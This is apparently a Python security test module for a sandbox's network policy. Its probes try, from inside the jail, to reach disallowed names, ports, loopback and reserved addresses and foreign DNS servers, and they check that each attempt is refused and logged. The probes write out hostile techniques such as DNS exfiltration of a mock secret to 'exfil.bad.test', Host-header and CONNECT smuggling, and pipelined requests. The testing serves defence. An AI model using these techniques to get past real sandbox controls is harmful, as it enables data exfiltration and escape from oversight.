"""The network from within a sandbox that has a policy: names, ports and what is said on them."""

from __future__ import annotations

import json
import sys
from pathlib import Path

from ...paths import log_dir
from ..judging import breach_if, refused, runnable, tried_if
from ..model import Breach
from ..scenes import Networked
from .network import CONNECT, NETWORK

probe = NETWORK.probe

# ask(): one request on a connection to host, port; what came back, as text.
ASK = """
def ask(host, port, data, seconds=8):
    with socket.socket() as s:
        s.settimeout(seconds)
        s.connect((host, port))
        s.sendall(data)
        answer = b""
        try:
            while piece := s.recv(65536):
                answer += piece
                if b"the stand-in" in answer:
                    break
        except OSError as error:
            if not answer:
                raise
        if not answer:
            raise OSError("closed")
        return answer.decode("latin-1")
def http(host, name=None, target="/", method="GET", further=""):
    return (f"{method} {target} HTTP/1.1\\r\\nHost: {name or host}\\r\\n{further}\\r\\n").encode()
"""
REFUSED = ("ECONNREFUSED", "ECONNRESET", "EPIPE", "closed", "denied", "ENETUNREACH", "EHOSTUNREACH")


async def asked(scene: Networked, *requests: tuple[str, int, str]) -> dict[str, str]:
    """Send each (host, port, Python expression of bytes) from the jail.

    "done" where a stand-in answered, "denied" where corral answered in its place, else the errno.
    """
    lines = [
        f"""
def request():
    answer = ask({host!r}, {port}, {data})
    if "the stand-in" in answer:
        return
    raise OSError("denied" if "corral:" in answer else "other answer")
attempt({f"{number} {host}:{port} {data}"[:100]!r}, request)"""
        for number, (host, port, data) in enumerate(requests)
    ]
    return await scene.jail(ASK + "".join(lines), seconds=60)


async def control(scene: Networked) -> None:
    """What is allowed is reached."""
    outcome = await asked(scene, (scene.GOOD, 80, f"http({scene.GOOD!r})"))
    runnable(outcome)
    tried_if(set(outcome.values()) == {"done"}, f"what is allowed is not reached either: {outcome}")


async def not_reached(scene: Networked, *requests: tuple[str, int, str]) -> str:
    """Each of them is refused, and the server that is not allowed hears nothing."""
    await control(scene)
    scene.servers.reset()
    outcome = await asked(scene, *requests)
    seen = refused(outcome, *REFUSED, at_least=len(requests))
    breach_if(scene.servers.bad.connections, "the server that is not allowed was reached")
    breach_if(scene.servers.good.got, f"passed on: {[got.line for got in scene.servers.good.got]}")
    return f"{seen}; what is allowed is reached"


@probe(
    "other-names-from-the-jail",
    "policy",
    "The jail connects to a name that is not allowed, though the host knows its address.",
    scene="network",
)
async def other_names(scene: Networked) -> str:
    names = (scene.BAD, f"{scene.BAD}.", f"x.{scene.GOOD}", "localhost.test", scene.BAD.upper())
    return await not_reached(scene, *((name, 80, f"http({name!r})") for name in names))


@probe(
    "other-ports-from-the-jail",
    "policy",
    "The jail connects to other ports of an allowed name.",
    scene="network",
)
async def other_ports(scene: Networked) -> str:
    ports = (22, 25, 53, 8080, 3128, scene.servers.good.port, scene.servers.bad.port)
    return await not_reached(scene, *((scene.GOOD, port, "b'x'") for port in ports))


@probe(
    "addresses-from-the-jail",
    "policy",
    "The jail connects to addresses: loopback, those of the name server's range, reserved ones.",
    scene="network",
)
async def addresses(scene: Networked) -> str:
    bad = scene.servers.bad.port
    hosts = [("127.0.0.1", bad), ("127.0.0.1", 80), ("0.0.0.0", bad), ("127.9.9.9", bad)]  # noqa: S104
    hosts += [("198.18.0.1", 80), ("198.19.255.254", 80), ("198.18.77.77", 443)]
    hosts += [("192.0.2.1", 80), ("198.51.100.1", 443), ("192.0.2.1", bad)]
    return await not_reached(scene, *((host, port, "http('x.test')") for host, port in hosts))


@probe(
    "http-tricks-from-the-jail",
    "same-name",
    "On a connection to an allowed name: another Host, CONNECT, whole URLs, a second request.",
    scene="network",
)
async def http_tricks(scene: Networked) -> str:
    good, bad = scene.GOOD, scene.BAD
    seen = await not_reached(
        scene,
        (good, 80, f"http({bad!r})"),
        (good, 80, f"http({good!r}, further='Host: {bad}\\r\\n')"),
        (good, 80, f"http({bad + ':443'!r}, target={bad + ':443'!r}, method='CONNECT')"),
        (good, 80, f"http({good!r}, target='http://{bad}/')"),
        (good, 80, "b'\\x16\\x03\\x01\\x00\\x05hello'"),
        (good, 80, "b'SSH-2.0-x\\r\\n\\r\\n'"),
    )
    scene.servers.reset()
    await asked(scene, (good, 80, f"http({good!r}) + http({bad!r}, target='/second')"))
    lines = [got.line for got in (*scene.servers.good.got, *scene.servers.bad.got)]
    breach_if([line for line in lines if "second" in line], "a second request was passed on")
    return seen


@probe(
    "plain-http-on-the-tls-port",
    "same-name",
    "The jail speaks plain HTTP, or nothing known, on the port for TLS.",
    scene="network",
)
async def plain_on_tls(scene: Networked) -> str:
    return await not_reached(
        scene,
        (scene.GOOD, 443, f"http({scene.GOOD!r})"),
        (scene.GOOD, 443, "b'SSH-2.0-x\\r\\n\\r\\n'"),
        (scene.GOOD, 443, "b'\\x16\\x03\\x01\\x00\\x05hello'"),
    )


QUESTIONS = """
def question(name, kind, kclass=1, flags=0x0100, further=b""):
    parts = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
    return struct.pack(">6H", 7, flags, 1, 0, 0, bool(further)) + parts + struct.pack(
        ">2H", kind, kclass) + further
def answers(data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(data, ("198.18.0.1", 53))
        answer = s.recv(65536)
    return struct.unpack_from(">6H", answer)[3], answer
"""


@probe(
    "dns-exfiltration",
    "name-service",
    "Data is sent out in names and in questions of every type to the name server.",
    scene="network",
    cites=("CVE-2025-55284",),
)
async def dns(scene: Networked) -> str:
    outcome = await scene.jail(
        QUESTIONS
        + """
secret = "5ec2e7" * 10
for kind, what in ((16, "TXT"), (15, "MX"), (10, "NULL"), (33, "SRV"), (255, "ANY"), (28, "AAAA"),
                   (12, "PTR"), (5, "CNAME"), (65, "HTTPS"), (252, "AXFR")):
    try:
        count, answer = answers(question(f"{secret}.exfil.bad.test", kind))
        outcome[what] = "done" if count else "no answer in it"
    except OSError as error:
        outcome[what] = "no answer"
local = 0
for number in range(8):
    count, answer = answers(question(f"{secret}.n{number}.exfil.bad.test", 1))
    local += count == 1 and answer[-4] == 198 and answer[-3] in (18, 19)
outcome["local"] = str(local)
try:
    answers(b"\\0\\1" + b"\\xff" * 500)
except OSError:
    pass
""",
        seconds=60,
    )
    runnable(outcome)
    local = int(outcome.pop("local", "0"))
    seen = refused(outcome, "no answer in it", "no answer", at_least=10)
    breach_if(local < 8, f"{8 - local} names led to addresses that are not the sandbox's own")
    log = (log_dir(scene.plan.name) / "network.jsonl").read_text()
    breach_if("exfil" in log, "a question alone has reached the host")
    return f"{seen}; {local} names answered in the sandbox, none of them known to the host"


@probe(
    "other-name-servers",
    "name-service",
    "Name servers other than the sandbox's own are asked, by UDP and TCP.",
    scene="network",
)
async def other_name_servers(scene: Networked) -> str:
    outcome = await scene.jail(
        CONNECT
        + """
for host in ("192.0.2.53", "198.51.100.53", "198.18.5.5", "127.0.0.53"):
    attempt(f"udp {host}", connect, V4, DATAGRAM, (host, 53))
    attempt(f"tcp {host}", connect, V4, STREAM, (host, 53))
    attempt(f"dot {host}", connect, V4, STREAM, (host, 853))
""",
        seconds=100,
    )
    refusals = ("ECONNREFUSED", "ENETUNREACH", "ECONNRESET", "EPIPE", "closed")
    return refused(outcome, *refusals, at_least=12)


@probe(
    "quic-and-other-udp",
    "policy",
    "The jail sends UDP to an allowed name: QUIC on 443, DNS elsewhere, anything.",
    scene="network",
)
async def udp(scene: Networked) -> str:
    outcome = await scene.jail(
        CONNECT
        + f"""
address = socket.gethostbyname({scene.GOOD!r})
for port in (443, 80, 4433, 123, 5353):
    began = time.monotonic()
    attempt(f"udp {{port}}", connect, V4, DATAGRAM, (address, port))
    if time.monotonic() - began > 3:
        outcome[f"udp {{port}}"] = "no answer"
""",
        seconds=60,
    )
    return f"{refused(outcome, 'ECONNREFUSED', 'ENETUNREACH', at_least=5)}, at once"


@probe(
    "guest-root-beside-the-policy",
    "policy",
    "The guest's root, outside the jail, looks for a way that the policy does not see.",
    scene="network",
)
async def guest_root(scene: Networked) -> str:
    bad = scene.servers.bad.port
    scene.servers.reset()
    outcome = await scene.root(
        CONNECT
        + f"""
for host in ("198.18.0.1", "198.18.0.2", "192.0.2.1", "10.0.2.2", "127.0.0.1"):
    for port in (53, 80, 443, {bad}):
        attempt(f"{{host}}:{{port}}", connect, V4, STREAM, (host, port))
""",
        seconds=120,
    )
    seen = refused(outcome, "ENETUNREACH", "ECONNREFUSED", "EHOSTUNREACH", at_least=20)
    breach_if(scene.servers.bad.connections, "the server that is not allowed was reached")
    return seen


@probe(
    "decisions-are-recorded",
    "policy",
    "A connection is refused, or made, without a line of it in a log that is its user's alone.",
    scene="network",
)
async def recorded(scene: Networked) -> str:
    mark = "recorded.bad.test"
    await asked(scene, (mark, 80, f"http({mark!r})"), (scene.GOOD, 80, f"http({scene.GOOD!r})"))
    path = log_dir(scene.plan.name) / "network.jsonl"
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    found = {(line["name"], line["verdict"]) for line in lines}
    for wanted in ((mark, "denied"), (scene.GOOD, "allowed")):
        breach_if(wanted not in found, f"no line says {wanted[1]} of {wanted[0]}")
    for place in (path, path.parent):
        if place.stat().st_mode & 0o077:
            raise Breach(f"{place} is open to others")
    return f"{len(lines)} lines, both among them"


@probe(
    "published-port-on-loopback",
    "local-users",
    "A port that leads into the sandbox is bound where the network reaches it.",
    scene="network",
)
async def published(scene: Networked) -> str:
    (wanted,) = scene.plan.network.publish
    tried_if(wanted.address == "127.0.0.1", "it is not published on loopback by default")
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    if Path("/proc/net/tcp6").exists():
        rows += [line.split() for line in Path("/proc/net/tcp6").read_text().splitlines()[1:]]
    listening = [row[1].rpartition(":") for row in rows if row[3] == "0A"]  # TCP_LISTEN
    ours = {address for address, _, port in listening if int(port, 16) == wanted.port}
    loopback = {"0100007F"} if sys.byteorder == "little" else {"7F000001"}
    breach_if(ours - loopback, f"bound to {', '.join(sorted(ours - loopback))}")
    tried_if(ours, "it does not listen")
    return "127.0.0.1 only; other users of this host can use it, see the threat model"
